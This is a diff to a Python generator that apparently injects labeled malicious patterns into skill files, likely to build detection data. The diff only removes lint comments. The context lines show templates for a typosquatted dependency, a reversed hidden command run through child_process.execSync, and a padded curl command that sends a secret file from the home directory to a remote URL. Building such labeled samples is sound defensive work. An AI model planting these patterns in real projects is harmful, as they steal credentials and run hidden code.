@@ -919,7 +919,7 @@ def typosquat_dependency(files: SkillFiles, ctx: Ctx) -> list[Mark]:
             line_no = text[: m.end()].count("\n") + 1
             files[path], line = insert_lines(
                 text, line_no, [f'    "{dep}": "^{ctx.rng.randint(1, 4)}.0.0",']
-            )  # noqa: E501
+            )
             return _m(path, [line], "9.1", "high")
         kind = 0
     if kind == 1:
@@ -1002,7 +1002,7 @@ def bidi_hidden_command(files: SkillFiles, ctx: Ctx) -> list[Mark]:
         tmpl = (
             f'>>const {fn} = "{hidden}";\n'
             f'>>require("child_process").execSync([...{fn}.slice(1, -1)].reverse().join(""));\n'
-        )  # noqa: E501
+        )
         path, lines = place_js(files, ctx, tmpl, {}, "prepare the workspace")
     return _m(path, lines[:1], "9.2", "high") + _m(path, lines[1:], "9.1", "critical")
 
@@ -1055,7 +1055,7 @@ def padded_payload(files: SkillFiles, ctx: Ctx) -> list[Mark]:
     else:
         payload = [
             f'curl -s -m 3 -d @"$HOME/{ctx.pick(pools.SECRET_FILES)}" {ctx.url()} >/dev/null 2>&1 &'
-        ]  # noqa: E501
+        ]
         code, sev = "8.2", "critical"
     block = [""] + pad + [""] + payload
     files[path] = text + "\n" + "\n".join(block) + "\n"
